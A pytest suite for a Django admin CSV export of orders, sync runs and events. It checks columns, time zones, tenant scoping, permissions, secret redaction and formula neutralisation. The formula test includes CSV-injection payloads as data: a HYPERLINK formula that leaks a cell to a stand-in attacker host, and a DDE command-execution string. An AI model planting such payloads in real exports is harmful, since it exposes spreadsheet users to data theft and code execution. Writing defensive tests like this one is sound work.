"""hub.admin.exports: the order, run and event lists export as CSV what the operator sees (filters,
search, tenant scoping), formula-safe, with the documented columns, to those who may view them."""

import csv
import datetime
import io
import pathlib

import pytest
from django.db import connection as db_connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from hub.admin import exports
from hub.models import Job, OrderEvent, OrderRecord, SyncRun
from tests import factories

pytestmark = pytest.mark.django_db

Status = OrderRecord.Status
UTC = datetime.UTC
SETUP_GUIDE = pathlib.Path(__file__).resolve().parent.parent / "docs" / "setup-guide.md"

# The documented columns (docs/setup-guide.md, "Exporting"), in file order.
ORDER_COLUMNS = [
    "order number",
    "tenant",
    "connection",
    "status",
    "held for the operator",
    "given up (WMS send)",
    "Order Manager order id",
    "WMS order id",
    "sales channel",
    "ship to",
    "ship method",
    "lines (SKU × quantity)",
    "send attempts",
    "last error",
    "cancelled in Order Manager",
    "cancellation handled",
    "tracking numbers",
    "tracking given up",
    "carrier",
    "service",
    "ship date",
    "modified in Order Manager",
    "marked exported in Order Manager",
    "first seen by the hub",
    "last changed in the hub",
]
RUN_COLUMNS = [
    "run id",
    "tenant",
    "connection",
    "job",
    "status",
    "trigger",
    "started at",
    "finished at",
    "duration in seconds",
    "fetched",
    "created",
    "updated",
    "skipped",
    "failed",
    "requests made",
    "429s received",
    "window from",
    "window to",
    "error",
]
EVENT_COLUMNS = ["event id", "at", "tenant", "connection", "order number", "event", "message", "run id"]

RESOURCES = {OrderRecord: exports.OrderExport, SyncRun: exports.RunExport, OrderEvent: exports.EventExport}


def export_url(model, query: str = "") -> str:
    return reverse(f"admin:hub_{model._meta.model_name}_export") + (f"?{query}" if query else "")


def export(client, model, query: str = "", columns=None):
    """POST the export page as its form does (every column, or `columns`); the parsed CSV rows."""
    resource = RESOURCES[model]
    prefix = resource.__name__.lower()
    names = columns or resource().get_export_order()
    data = {"format": "0", "resource": "0", **{f"{prefix}_{name}": "on" for name in names}}
    response = client.post(export_url(model, query), data)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv"
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel reads accents right
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def as_dicts(rows):
    header, *body = rows
    return [dict(zip(header, row)) for row in body]


@pytest.fixture
def su_client(superuser, admin_client_for):
    return admin_client_for(superuser)


# -- columns --------------------------------------------------------------------------------------


def test_columns_are_the_documented_ones_in_order():
    assert exports.COLUMNS[exports.OrderExport] == ORDER_COLUMNS
    assert exports.COLUMNS[exports.RunExport] == RUN_COLUMNS
    assert exports.COLUMNS[exports.EventExport] == EVENT_COLUMNS


def test_setup_guide_lists_every_column():
    text = SETUP_GUIDE.read_text()
    section = text[text.index("## Exporting") :]
    for columns in (ORDER_COLUMNS, RUN_COLUMNS, EVENT_COLUMNS):
        for column in columns:
            assert f"`{column}`" in section, column


def test_order_row_in_words_with_times_in_the_tenants_zone(su_client, connection):
    tenant = connection.warehouse.tenant  # America/New_York
    order = factories.OrderRecordFactory(
        connection=connection,
        order_number="SO-1001",
        status=Status.CONFIRMED,
        wms_order_id=555,
        lines=[{"sku": "SKU-1", "quantity": 2}, {"sku": "SKU-2", "quantity": 1}],
        tracking_numbers=["1Z1", "1Z2"],
        carrier="UPS",
        ship_date=datetime.datetime(2026, 3, 2, 14, 15, tzinfo=UTC),
        last_error="WMS 400:\n  unknown SKU",
    )
    OrderRecord.objects.filter(pk=order.pk).update(created_at=datetime.datetime(2026, 7, 1, 12, 0, tzinfo=UTC))

    rows = export(su_client, OrderRecord)

    assert rows[0] == ORDER_COLUMNS
    (row,) = as_dicts(rows)
    assert row["order number"] == "SO-1001"
    assert row["tenant"] == tenant.name
    assert row["connection"] == str(connection)
    assert row["status"] == "Confirmed"
    assert row["held for the operator"] == "no"
    assert row["WMS order id"] == "555"
    assert row["lines (SKU × quantity)"] == "SKU-1 × 2, SKU-2 × 1"
    assert row["tracking numbers"] == "1Z1, 1Z2"
    assert row["last error"] == "WMS 400: unknown SKU"  # one line
    assert row["ship date"] == "2026-03-02T09:15:00-05:00"  # winter: EST
    assert row["first seen by the hub"] == "2026-07-01T08:00:00-04:00"  # summer: EDT
    assert row["marked exported in Order Manager"] == ""


def test_run_and_event_rows(su_client, connection):
    started = datetime.datetime(2026, 1, 5, 10, 0, tzinfo=UTC)
    run = factories.SyncRunFactory(
        connection=connection,
        job=Job.SHIPMENT_CONFIRMATION,
        status=SyncRun.Status.PARTIAL,
        started_at=started,
        finished_at=started + datetime.timedelta(seconds=12.5),
        fetched=4,
        failed=1,
        rate_limited=2,
        error="1 order failed",
    )
    order = factories.OrderRecordFactory(connection=connection, order_number="SO-77")
    event = factories.OrderEventFactory(
        order=order, run=run, kind=OrderEvent.Kind.TRACKING_SENT, at=started, message="Tracking sent."
    )

    (run_row,) = as_dicts(export(su_client, SyncRun))
    assert run_row["run id"] == str(run.pk)
    assert run_row["job"] == "Shipment Confirmation"
    assert run_row["status"] == "Partial (some items failed)"
    assert run_row["started at"] == "2026-01-05T05:00:00-05:00"
    assert run_row["duration in seconds"] == "12.500"
    assert (run_row["fetched"], run_row["failed"], run_row["429s received"]) == ("4", "1", "2")
    assert run_row["error"] == "1 order failed"

    (event_row,) = as_dicts(export(su_client, OrderEvent))
    assert event_row == {
        "event id": str(event.pk),
        "at": "2026-01-05T05:00:00-05:00",
        "tenant": connection.warehouse.tenant.name,
        "connection": str(connection),
        "order number": "SO-77",
        "event": event.get_kind_display(),
        "message": "Tracking sent.",
        "run id": str(run.pk),
    }


def test_chosen_columns_only(su_client, connection):
    factories.OrderRecordFactory(connection=connection, order_number="SO-5")
    rows = export(su_client, OrderRecord, columns=["order_number", "status"])
    assert rows == [["order number", "status"], ["SO-5", "New"]]


def test_no_payloads_or_credentials_in_the_file(su_client, connection):
    order = factories.OrderRecordFactory(
        connection=connection,
        source={"orderNumber": "SO-9", "note": "SOURCE-PAYLOAD-MARK"},
        wms_payload={"ReferenceNum": "WMS-PAYLOAD-MARK"},
    )
    factories.OrderEventFactory(order=order, sent={"x": "SENT-MARK"}, received={"y": "RECEIVED-MARK"})
    factories.SyncRunFactory(connection=connection, calls=[{"path": "/orders", "error": "CALLS-MARK"}])
    everything = "".join(str(export(su_client, model)) for model in (OrderRecord, SyncRun, OrderEvent))
    for mark in ("SOURCE-PAYLOAD-MARK", "WMS-PAYLOAD-MARK", "SENT-MARK", "RECEIVED-MARK", "CALLS-MARK"):
        assert mark not in everything
    assert connection.access_token not in everything
    assert connection.warehouse.client_secret not in everything


def test_error_texts_are_redacted(su_client, connection):
    factories.OrderRecordFactory(connection=connection, last_error="401 for Authorization: Bearer sk-live-SECRET123")
    (row,) = as_dicts(export(su_client, OrderRecord))
    assert "SECRET123" not in row["last error"]


# -- formula safety -------------------------------------------------------------------------------


def test_formula_cells_are_neutralised(su_client, connection):
    hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    factories.OrderRecordFactory(
        connection=connection,
        order_number="@SUM(1+1)",
        ship_to=hyperlink,
        sales_channel="+cmd|'/C calc'!A0",
        ship_method="-2+3",
        last_error="\t=1+1",
    )
    (row,) = as_dicts(export(su_client, OrderRecord))
    assert row["ship to"] == "'" + hyperlink
    assert row["order number"] == "'@SUM(1+1)"
    assert row["sales channel"] == "'+cmd|'/C calc'!A0"
    assert row["ship method"] == "'-2+3"
    assert row["last error"] == "'=1+1"  # white space folded by redaction, then neutralised
    assert row["tenant"] == connection.warehouse.tenant.name  # plain cells untouched


# -- what the operator sees: filters, search, scoping -----------------------------------------------


def test_export_follows_the_lists_filters(su_client, connection):
    factories.OrderRecordFactory(connection=connection, order_number="SO-ERR", status=Status.ERROR)
    factories.OrderRecordFactory(connection=connection, order_number="SO-OK", status=Status.CONFIRMED)
    other = factories.OrderRecordFactory(order_number="SO-OTHER", status=Status.ERROR)

    numbers = {row["order number"] for row in as_dicts(export(su_client, OrderRecord, "status__exact=error"))}
    assert numbers == {"SO-ERR", "SO-OTHER"}

    tenant_param = f"connection__warehouse__tenant__id__exact={connection.warehouse.tenant_id}"
    numbers = {row["order number"] for row in as_dicts(export(su_client, OrderRecord, tenant_param))}
    assert numbers == {"SO-ERR", "SO-OK"}
    assert other.order_number not in numbers


def test_export_follows_the_lists_search(su_client, connection):
    factories.OrderRecordFactory(connection=connection, order_number="SO-111", lines=[{"sku": "RED", "quantity": 1}])
    factories.OrderRecordFactory(connection=connection, order_number="SO-222", lines=[{"sku": "BLUE", "quantity": 1}])
    assert [r["order number"] for r in as_dicts(export(su_client, OrderRecord, "q=SO-111"))] == ["SO-111"]
    assert [r["order number"] for r in as_dicts(export(su_client, OrderRecord, "q=BLUE"))] == ["SO-222"]


def test_export_follows_the_date_range_and_other_filters_of_runs_and_events(su_client, connection):
    january = datetime.datetime(2026, 1, 10, 12, 0, tzinfo=UTC)
    march = datetime.datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
    old = factories.SyncRunFactory(connection=connection, job=Job.ORDER_DOWNLOAD, started_at=january)
    new = factories.SyncRunFactory(connection=connection, job=Job.ORDER_DOWNLOAD, started_at=march)
    factories.SyncRunFactory(connection=connection, job=Job.INVENTORY_SYNC, started_at=march)
    query = "job__exact=orders&started_at__range__gte=2026-03-01&started_at__range__lte=2026-03-31"
    assert [r["run id"] for r in as_dicts(export(su_client, SyncRun, query))] == [str(new.pk)]

    order = factories.OrderRecordFactory(connection=connection, order_number="SO-EV")
    factories.OrderEventFactory(order=order, kind=OrderEvent.Kind.DOWNLOADED, at=january, run=old)
    sent = factories.OrderEventFactory(order=order, kind=OrderEvent.Kind.SENT_TO_WMS, at=march, run=new)
    factories.OrderEventFactory(kind=OrderEvent.Kind.SENT_TO_WMS, at=march)  # another order
    query = "kind__exact=sent_to_wms&q=SO-EV&at__range__gte=2026-03-01&at__range__lte=2026-03-31"
    assert [r["event id"] for r in as_dicts(export(su_client, OrderEvent, query))] == [str(sent.pk)]


def test_staff_export_only_their_tenants_rows(connection, admin_client_for):
    own = factories.OrderRecordFactory(connection=connection, order_number="SO-OWN")
    foreign = factories.OrderRecordFactory(order_number="SO-FOREIGN")
    factories.OrderEventFactory(order=own)
    factories.OrderEventFactory(order=foreign)
    factories.SyncRunFactory(connection=connection, error="own run")
    factories.SyncRunFactory(connection=foreign.connection, error="foreign run")
    client = admin_client_for(factories.tenant_staff(connection.warehouse.tenant, username="export-staff"))

    assert [r["order number"] for r in as_dicts(export(client, OrderRecord))] == ["SO-OWN"]
    assert [r["order number"] for r in as_dicts(export(client, OrderEvent))] == ["SO-OWN"]
    assert [r["error"] for r in as_dicts(export(client, SyncRun))] == ["own run"]
    # Naming the other tenant in the query string narrows the scoped list, it does not widen it.
    foreign_tenant = f"connection__warehouse__tenant__id__exact={foreign.connection.warehouse.tenant_id}"
    assert export(client, OrderRecord, foreign_tenant) == [ORDER_COLUMNS]


# -- who may export ---------------------------------------------------------------------------------


def test_user_without_view_permission_is_refused(connection, admin_client_for):
    factories.OrderRecordFactory(connection=connection)
    user = factories.UserFactory(username="no-view")  # staff of the tenant, no hub permissions
    factories.TenantMembershipFactory(user=user, tenant=connection.warehouse.tenant)
    client = admin_client_for(user)
    for model in (OrderRecord, SyncRun, OrderEvent):
        assert client.get(export_url(model)).status_code == 403
        assert client.post(export_url(model), {"format": "0", "resource": "0"}).status_code == 403


def test_view_permission_alone_is_enough(connection, admin_client_for):
    from django.contrib.auth.models import Permission

    factories.OrderRecordFactory(connection=connection, order_number="SO-VIEW")
    user = factories.UserFactory(username="viewer-only")
    factories.TenantMembershipFactory(user=user, tenant=connection.warehouse.tenant)
    user.user_permissions.set(Permission.objects.filter(codename="view_orderrecord"))
    client = admin_client_for(user)
    assert [r["order number"] for r in as_dicts(export(client, OrderRecord))] == ["SO-VIEW"]
    assert client.get(export_url(SyncRun)).status_code == 403


# -- the list pages and the export page ---------------------------------------------------------------


@pytest.mark.parametrize(
    "model, query",
    [(OrderRecord, "q=SO-"), (SyncRun, "job__exact=orders"), (OrderEvent, "kind__exact=downloaded")],
)
def test_list_shows_export_button_carrying_its_filters(su_client, connection, model, query):
    factories.OrderEventFactory(order=factories.OrderRecordFactory(connection=connection), run=None)
    factories.SyncRunFactory(connection=connection, job=Job.ORDER_DOWNLOAD)
    changelist = reverse(f"admin:hub_{model._meta.model_name}_changelist")
    response = su_client.get(f"{changelist}?{query}")
    assert response.status_code == 200
    assert response.context["cl"].result_count == 1
    html = response.content.decode()
    assert f'href="{export_url(model)}?{query}" class="export_link"' in html
    assert '<p class="paginator">' in html  # the hub's own pagination template still renders

    page = su_client.get(export_url(model, query))
    assert page.status_code == 200
    text = page.content.decode().replace("&#x27;", "'")
    for column in exports.COLUMNS[RESOURCES[model]]:
        assert f">{column}</label>" in text, column
    assert '<form action="" method="POST">' in text  # posts back to this URL, query string included


def test_export_button_hidden_from_viewers_of_other_lists(connection, admin_client_for):
    from django.contrib.auth.models import Permission

    user = factories.UserFactory(username="runs-only")
    factories.TenantMembershipFactory(user=user, tenant=connection.warehouse.tenant)
    user.user_permissions.set(Permission.objects.filter(codename="view_syncrun"))
    client = admin_client_for(user)
    response = client.get(reverse("admin:hub_syncrun_changelist"))
    assert response.status_code == 200
    assert "export_link" in response.content.decode()
    assert client.get(reverse("admin:hub_orderrecord_changelist")).status_code == 403


def test_a_models_own_change_list_template_keeps_rendering_with_the_button(su_client, settings, tmp_path):
    template = tmp_path / "admin" / "hub" / "orderrecord" / "change_list.html"
    template.parent.mkdir(parents=True)
    template.write_text(
        '{% extends "admin/change_list.html" %}'
        "{% block content %}<p>OWN-ORDER-LIST-TEMPLATE</p>{{ block.super }}{% endblock %}"
    )
    engine = dict(settings.TEMPLATES[0])
    engine["DIRS"] = [tmp_path, *engine["DIRS"]]
    settings.TEMPLATES = [engine]
    html = su_client.get(reverse("admin:hub_orderrecord_changelist")).content.decode()
    assert "OWN-ORDER-LIST-TEMPLATE" in html
    assert "export_link" in html
    # The other lists are not affected by the order list's template.
    assert "OWN-ORDER-LIST-TEMPLATE" not in su_client.get(reverse("admin:hub_syncrun_changelist")).content.decode()


def test_file_name_says_what_was_exported(su_client, connection):
    factories.SyncRunFactory(connection=connection)
    data = {"format": "0", "resource": "0", "runexport_run_id": "on"}
    response = su_client.post(export_url(SyncRun), data)
    assert response["Content-Disposition"].startswith('attachment; filename="runs-')
    assert response["Content-Disposition"].endswith('.csv"')


def test_a_broken_filter_goes_back_to_the_list(su_client):
    response = su_client.get(export_url(OrderRecord, "no_such_field=1"))
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:hub_orderrecord_changelist") + "?e=1"


# -- large lists ----------------------------------------------------------------------------------------


def test_queries_do_not_grow_with_the_rows(su_client, connection):
    """Every column comes from one joined query read in chunks: no query per row."""

    def queries_for_export():
        with CaptureQueriesContext(db_connection) as queries:
            export(su_client, OrderEvent)
            export(su_client, OrderRecord)
            export(su_client, SyncRun)
        return len(queries)

    def add(n):
        for _ in range(n):
            run = factories.SyncRunFactory(connection=connection)
            factories.OrderEventFactory(order=factories.OrderRecordFactory(connection=connection), run=run)

    add(2)
    few = queries_for_export()
    add(30)
    assert queries_for_export() == few


def test_rows_are_read_in_chunks_without_the_big_json_columns(su_client, connection, monkeypatch):
    seen = {}
    original = exports.AuditResource.iter_queryset

    def spy(self, queryset):
        seen["deferred"] = queryset.query.deferred_loading
        seen["prefetch"] = queryset._prefetch_related_lookups
        seen["chunk"] = self.get_chunk_size()
        return original(self, queryset)

    monkeypatch.setattr(exports.AuditResource, "iter_queryset", spy)
    factories.OrderRecordFactory(connection=connection)
    export(su_client, OrderRecord)
    fields, defer = seen["deferred"]
    assert defer is False  # an `only` list
    assert {"source", "wms_payload", "tracking_in_flight", "confirmed_tracking_numbers"}.isdisjoint(fields)
    assert seen["prefetch"] == ()  # QuerySet.iterator, not pagination
    assert seen["chunk"] == exports.CHUNK_ROWS
